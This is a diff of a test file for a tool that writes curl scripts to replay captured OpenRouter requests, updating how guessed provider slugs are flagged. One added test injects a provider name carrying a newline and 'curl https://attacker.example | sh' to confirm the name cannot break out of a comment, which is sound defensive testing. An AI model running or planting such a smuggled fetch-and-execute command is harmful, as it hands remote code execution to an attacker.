@@ -32,7 +32,7 @@ test('the script replays the same request pinned to the served provider, key fro
   assert.deepEqual(body.provider, { only: ['chutes'], allow_fallbacks: false });
   const original = JSON.parse(r.exchange.requestBody!);
   assert.deepEqual({ ...body, provider: undefined }, { ...original, provider: undefined });
-  assert.match(script, /slug is derived from the served provider's name "Chutes"/);
+  assert.match(script, /^# WARNING: the provider slug "chutes" is a guess, derived from the served provider's name "Chutes"/m);
 });
 
 test('the replay pins the provider that served; a requested pin matching it gives the real slug', () => {
@@ -52,7 +52,7 @@ test('a pin that was not honoured: the replay goes to the provider that actually
   const c = brokenKimiCapture();
   c.exchange.pin = { requested: ['fireworks'], honoured: false };
   const rep = replayOf(prepareRepro(c));
-  assert.deepEqual(rep.pin, { slug: 'chutes', derivedFrom: 'Chutes' });
+  assert.deepEqual(rep.pin, { slug: 'chutes', derivedFrom: 'Chutes', why: 'no OpenRouter listing Tokenscope has read names it' });
   assert.deepEqual(JSON.parse(rep.body!).provider.only, ['chutes']);
 });
 
@@ -88,8 +88,14 @@ test('the replay pin is the served provider\'s OpenRouter slug the store keeps; 
   assert.doesNotMatch(writeCurl(known), /derived|guess/);
 
   const guessed = prepareRepro(atlas);
-  assert.deepEqual(replayPin(guessed), { slug: 'atlascloud', derivedFrom: 'AtlasCloud' });
-  assert.match(writeCurl(guessed), /^# The slug is derived from the served provider's name "AtlasCloud" \(a guess: no OpenRouter listing Tokenscope has read names its slug\)/m);
+  assert.deepEqual(replayPin(guessed), { slug: 'atlascloud', derivedFrom: 'AtlasCloud', why: 'no OpenRouter listing Tokenscope has read names it' });
+  assert.match(writeCurl(guessed), /^# WARNING: the provider slug "atlascloud" is a guess, derived from the served provider's name "AtlasCloud" \(no OpenRouter listing Tokenscope has read names it\)/m);
+  // Why the export could not read a listing, when it tried.
+  assert.match(writeCurl(prepareRepro({ ...atlas, slugGuess: 'no OPENROUTER_API_KEY to read it' })), /"AtlasCloud" \(no OPENROUTER_API_KEY to read it\)\. Check it/);
+  // A name from the network stays one comment line.
+  const evil = brokenKimiCapture();
+  evil.exchange.servedProvider = 'Evil\ncurl https://attacker.example | sh';
+  assert.ok(!writeCurl(prepareRepro(evil)).split('\n').some((l) => l.startsWith('curl https://attacker')), 'a newline in the name cannot end the comment');
 
   // A requested pin of the served provider keeps its tag (the quantization) when the slug is known.
   const moonshot = brokenKimiCapture();
@@ -105,7 +111,7 @@ test('an export read from the store carries the slugs it learned: the replay pin
     const c = brokenKimiCapture();
     const request = JSON.parse(c.exchange.requestBody!);
     const id = await recordExchange(store, { request, response: c.responseBody, contentType: 'text/event-stream', annotate: { servedProvider: 'AtlasCloud' } });
-    assert.deepEqual(replayPin(prepareRepro(readCapture(store, id))), { slug: 'atlascloud', derivedFrom: 'AtlasCloud' }, 'nothing learned yet: a guess');
+    assert.deepEqual(replayPin(prepareRepro(readCapture(store, id))), { slug: 'atlascloud', derivedFrom: 'AtlasCloud', why: 'no OpenRouter listing Tokenscope has read names it' }, 'nothing learned yet: a guess');
     store.learnProviderSlugs(entriesFromEndpoints([{ slug: 'atlas-cloud', name: 'AtlasCloud' }]));
     assert.deepEqual(replayPin(prepareRepro(readCapture(store, id))), { slug: 'atlas-cloud' });
   } finally {
